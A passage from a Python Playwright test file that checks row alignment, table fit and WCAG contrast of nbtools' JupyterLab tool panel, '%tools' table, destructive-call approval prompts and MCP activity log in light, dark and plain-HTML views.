                        baselines, controls: [baselines[0] - (box.top + box.bottom) / 2,
                                              baselines[0] - (button.top + button.bottom) / 2]};
            });
        }""")
        assert len(rows) == 36, f"{width}px {theme}: {len(rows)} rows"
        for row in rows:
            where = f"{width}px {theme}: {row['name']}"
            if row["textRight"] > row["buttonLeft"] + 0.5:
                problems.append(f"{where}: the description runs {row['textRight'] - row['buttonLeft']:.0f}px under the button")
            if row["buttonRight"] > row["edge"] + 0.5:
                problems.append(f"{where}: the button is cut {row['buttonRight'] - row['edge']:.0f}px at the edge")
            off = max(row["baselines"]) - min(row["baselines"])
            if off > 0.5:
                problems.append(f"{where}: name, badges and description {off:.1f}px off one line")
        # The checkbox and the button sit at the same height against the name's line in every row.
        for index, control in enumerate(("checkbox", "button")):
            heights = sorted((row["controls"][index], row["name"]) for row in rows)
            if heights[-1][0] - heights[0][0] > 1:
                problems.append(f"{width}px {theme}: the {control} is {heights[-1][0] - heights[0][0]:.1f}px higher "
                                f"against the name in {heights[-1][1]} than in {heights[0][1]}")
    assert not problems, _summed_up(problems, tmp_path)


# Every element holding text in the panel's rows and the table, with its colour, and the background
# colour and opacity of it and of each of its ancestors (outermost first): what `_seen` composites.
_TEXT_LAYERS = """output => [...output.querySelectorAll('*')]
        .filter(e => [...e.childNodes].some(n => n.nodeType === 3 && n.textContent.trim()))
        .map(e => {
            const chain = [];
            for (let a = e; a; a = a.parentElement) {
                const style = getComputedStyle(a);
                chain.unshift([style.backgroundColor, parseFloat(style.opacity)]);
            }
            return [e.textContent.trim().slice(0, 50), getComputedStyle(e).color, chain];
        })"""


def _seen(colour: str, chain: list) -> tuple[list[float], list[float]]:
    """The text's colour and the colour behind it as they reach the screen: each element's background
    painted over what is behind it, and each element's opacity mixing all it paints with that backdrop."""
    def paint(index: int, backdrop: list[float]) -> tuple[list[float], list[float]]:
        layer, opacity = chain[index]
        ground = over(rgba(layer), backdrop)
        text, behind = (over(rgba(colour), ground), ground) if index == len(chain) - 1 else paint(index + 1, ground)
        mix = lambda c: [opacity * c[i] + (1 - opacity) * backdrop[i] for i in range(3)]  # noqa: E731
        return mix(text), mix(behind)
    return paint(0, [255.0, 255.0, 255.0])


def test_dimmed_and_warning_text_contrast_in_both_themes(layout_page, tmp_path):
    """Every text of the panel's rows and of the `%tools` table, disabled tools' and the `destructive`
    chip included, at least 4.5:1 (WCAG AA) against what is behind it, in Light and Dark."""
    page = layout_page
    low = {}
    for width, theme in VIEWS:
        _view(page, width, theme)
        for selector, what in ((PANEL_OUTPUT, "panel"), (TABLE_OUTPUT, "table")):
            _shoot(page, selector, tmp_path / f"{what}-{width}-{theme.split()[-1].lower()}.png")
            for text, colour, chain in page.evaluate_handle(OUTPUTS[selector]).evaluate(_TEXT_LAYERS):
                ratio = contrast(*_seen(colour, chain))
                if ratio < 4.5:
                    low.setdefault(f"{theme} {what}: {text!r}", round(ratio, 2))
    assert not low, f"contrast below 4.5:1 (screenshots in {tmp_path}): " + "; ".join(
        f"{where} {ratio}:1" for where, ratio in sorted(low.items(), key=lambda item: item[1])[:12])


def test_tools_table_fits_and_cuts_nothing(layout_page, tmp_path):
    """At 1,000 and 1,400 px, in both themes: the `%tools` table is no wider than its output area and
    no cell cuts its text (a long name and a long parameter list wrap)."""
    page = layout_page
    problems = []
    for width, theme in VIEWS:
        _view(page, width, theme)
        _shoot(page, TABLE_OUTPUT, tmp_path / f"table-{width}-{theme.split()[-1].lower()}.png")
        seen = page.evaluate(f"""() => {{
            const output = {OUTPUTS[TABLE_OUTPUT]};
            const table = output.querySelector('table');
            const cut = [...table.querySelectorAll('td, th')]
                .filter(cell => cell.scrollWidth > cell.clientWidth + 1)
                .map(cell => [cell.textContent.trim().slice(0, 60), cell.scrollWidth - cell.clientWidth]);
            return {{room: output.clientWidth, table: table.getBoundingClientRect().width,
                    scrolls: output.scrollWidth - output.clientWidth, cut}};
        }}""")
        where = f"{width}px {theme}"
        if seen["table"] > seen["room"] + 1:
            problems.append(f"{where}: the table is {seen['table'] - seen['room']:.0f}px wider than its output area")
        if seen["scrolls"] > 1:
            problems.append(f"{where}: the output scrolls {seen['scrolls']}px sideways")
        problems += [f"{where}: {text!r} cut by {by}px" for text, by in seen["cut"]]
    assert not problems, _summed_up(problems, tmp_path)


# -- the approval prompts and the MCP activity log, in both themes and outside JupyterLab ---------------

# nbtools' own HTML in the colours notebook (ipywidgets' buttons and text boxes are JupyterLab's to colour).
_OWN_HTML = (".jp-OutputArea-output .widget-html-content, .jp-OutputArea-output.jp-RenderedHTMLCommon, "
             ".jp-OutputArea-output .jp-RenderedHTMLCommon")


def _low_contrast(page, where: str, low: dict, measured: dict) -> None:
    """Every text of nbtools' HTML on `page` measured against what is behind it: the lowest ratio per
    text in `measured`, those under 4.5:1 in `low`."""
    layers = page.evaluate(f"() => [...document.querySelectorAll({_OWN_HTML!r})].flatMap({_TEXT_LAYERS})")
    for text, colour, chain in layers:
        ratio = round(contrast(*_seen(colour, chain)), 2)
        key = f"{where}: {text!r}"
        measured[key] = min(ratio, measured.get(key, ratio))
        if ratio < 4.5:
            low[key] = measured[key]


def test_approval_and_activity_colours_in_both_themes(lab, browser, tmp_path):
    """A denied and an approved destructive call's records, an open prompt showing an invalid edit's
    message beside the `destructive` badge, and an MCP activity log with a row in each status (ok,
    error, refused, cancelled, running; a task working, input required, completed, failed): every text
    at least 4.5:1 (WCAG AA) against what is really behind it in JupyterLab Light and Dark, and in the
    same HTML shown outside JupyterLab (no theme variables: nbviewer, a plain HTML export). The status
    is a word and the warning a badge's word, not colour alone. Screenshots in tmp_path."""
    page = browser.new_page(viewport={"width": 1280, "height": 1000})
    try:
        _open_and_run(page, lab.format("colours.ipynb"))
        page.wait_for_selector(".jp-OutputArea-output .widget-html-content:has-text('input required')", timeout=120_000)
        page.wait_for_selector(".jp-OutputArea-output:has-text('Invalid edit')", timeout=60_000)
        page.wait_for_function("[...document.querySelectorAll('.jp-OutputArea-output')]"
                               ".filter(o => o.textContent.includes('Approval for')).length === 2", timeout=60_000)
        time.sleep(2)
        low: dict = {}
        measured: dict = {}
        for theme in THEMES:
            _view(page, 1280, theme)
            name = theme.split()[-1].lower()
            _shoot(page, ".jp-OutputArea-output:has-text('Approval for')", tmp_path / f"approvals-{name}.png")
            _shoot(page, ".jp-OutputArea-output:has-text('input required')", tmp_path / f"activity-{name}.png")
            _low_contrast(page, theme, low, measured)
        # The same HTML outside JupyterLab: none of its variables defined, so each colour's fallback shows.
        shown = page.evaluate(f"() => [...document.querySelectorAll({_OWN_HTML!r})].map(e => e.innerHTML)")
        page.set_content("<!doctype html><body style='font-family:sans-serif'>" + "".join(
            f"<div class='jp-OutputArea-output jp-RenderedHTMLCommon'>{part}</div>" for part in shown) + "</body>")
        page.screenshot(path=str(tmp_path / "plain-html.png"), full_page=True)
        _low_contrast(page, "plain HTML", low, measured)
        (tmp_path / "contrast.json").write_text(json.dumps(measured, indent=1, ensure_ascii=False))  # every figure
        # Every part was measured, in each view: each status word, the badge, the message, both records.
        for where in (*THEMES, "plain HTML"):
            texts = {key.split(": ", 1)[1].strip("'\"") for key in measured if key.startswith(f"{where}: ")}
            wanted = {*ACTIVITY_STATUSES, "destructive", "Denied: keep it; archive instead", "Approved."}
            assert wanted <= texts, f"{where}: not measured: {wanted - texts}"
            assert any(text.startswith("Invalid edit, argument 'title'") for text in texts), (where, sorted(texts))
        assert not low, f"contrast below 4.5:1 (screenshots in {tmp_path}): " + "; ".join(
            f"{where} {ratio}:1" for where, ratio in sorted(low.items(), key=lambda item: item[1])[:16])
    finally:
        page.close()
